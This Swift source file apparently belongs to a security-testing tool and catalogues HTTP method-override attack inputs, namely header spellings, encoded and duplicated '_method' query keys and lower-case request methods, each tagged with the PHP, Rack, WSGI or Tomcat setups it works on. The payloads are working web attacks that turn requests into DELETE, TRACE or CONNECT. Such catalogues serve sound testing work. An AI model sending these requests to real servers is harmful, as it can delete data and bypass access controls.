/// The attacks with a method beside the request line that need no content.
///
/// Each is listed for the frameworks where it works.
extension Attack {
    /// Field names and values (B-01), on any wire method (B-02), whatever Connection says (B-05).
    static let inFields: [Attack] = [
        .field("X-HTTP-Method-Override: DELETE", .phpModule, .phpServer, .rack, .wsgi),
        .field("x-http-method-override: delete", .phpModule, .phpServer, .rack, .wsgi),
        .field("X-HTTP-METHOD-OVERRIDE:   DELETE  ", .phpModule, .rack, .wsgi),
        .field("X_HTTP_Method_Override: DELETE", .phpServer, .rack, .wsgi),
        .field("X-HTTP_Method-Override: DELETE", .phpServer, .rack, .wsgi),
        .field("X.HTTP.Method.Override: DELETE", .phpServer),
        .field("x-HTTP.method_override: DELETE", .phpServer),
        Attack(
            name: "an empty line, then another spelling",
            fields: ["X-HTTP-Method-Override:", "X_HTTP-Method-Override: DELETE"],
            works: [.phpServer]
        ),
        Attack(
            name: "named by Connection",
            fields: ["Connection: X-HTTP-Method-Override", "X-HTTP-Method-Override: DELETE"],
            works: [.phpModule, .phpServer, .rack, .wsgi]
        ),
        Attack(
            name: "TRACE",
            fields: ["X-HTTP-Method-Override: TRACE"],
            effect: "TRACE /users/{n}",
            works: [.phpModule, .phpServer, .wsgi]
        ),
        Attack(
            name: "CONNECT",
            fields: ["X-HTTP-Method-Override: CONNECT"],
            effect: "CONNECT /users/{n}",
            works: [.phpModule, .phpServer, .wsgi]
        ),
        Attack(
            name: "a method that no standard names",
            fields: ["X-HTTP-Method-Override: BAKE"],
            effect: "BAKE /users/{n}",
            works: [.phpModule, .phpServer, .wsgi]
        ),
        Attack(
            name: "GET on the wire",
            method: "GET",
            fields: ["X-HTTP-Method-Override: DELETE"],
            content: nil,
            works: [.wsgi]
        ),
        Attack(
            name: "PUT on the wire",
            method: "PUT",
            fields: ["X-HTTP-Method-Override: DELETE"],
            works: [.wsgi]
        ),
    ]

    /// Query keys (B-03).
    static let inQueries: [Attack] = [
        .query("_method=DELETE", .phpModule, .phpServer, .wsgi, .tomcat),
        .query("_method=delete", .phpModule, .phpServer, .wsgi, .tomcat),
        .query("%5Fmethod=DELETE", .phpModule, .phpServer, .wsgi, .tomcat),
        .query("a=b&%5fmetho%64=DEL%45TE", .phpModule, .phpServer, .wsgi, .tomcat),
        .query("a=b;_method=DELETE", .phpModule, .phpServer),
        .query("_method=+DELETE+", .wsgi),
        .query("_method=GET&_method=DELETE", .phpModule, .phpServer),
        .query("_method=DELETE&_method=GET", .wsgi, .tomcat),
        .query(".method=DELETE", .phpModule, .phpServer),
        .query("%2Emethod=DELETE", .phpModule, .phpServer),
        .query("+_method=DELETE", .phpModule, .phpServer),
        .query("%20_method=DELETE", .phpModule, .phpServer),
        .query("_method%00x=DELETE", .phpModule, .phpServer),
        Attack(
            name: "GET on the wire",
            method: "GET",
            target: "/users/{n}?_method=DELETE",
            content: nil,
            works: [.wsgi]
        ),
        Attack(
            name: "TRACE",
            target: "/users/{n}?_method=TRACE",
            effect: "TRACE /users/{n}",
            works: [.phpModule, .phpServer, .wsgi]
        ),
    ]

    /// The method of the request line itself, in another case (B-10).
    static let inRequestLines: [Attack] = [
        Attack(name: "delete", method: "delete", content: nil, answer: 501, works: [.phpModule]),
        Attack(name: "Delete", method: "Delete", content: nil, answer: 501, works: [.phpModule]),
    ]

    private static func field(_ line: String, _ works: Framework...) -> Attack {
        Attack(name: line, fields: [line], works: works)
    }

    private static func query(_ query: String, _ works: Framework...) -> Attack {
        Attack(name: query, target: "/users/{n}?\(query)", works: works)
    }
}
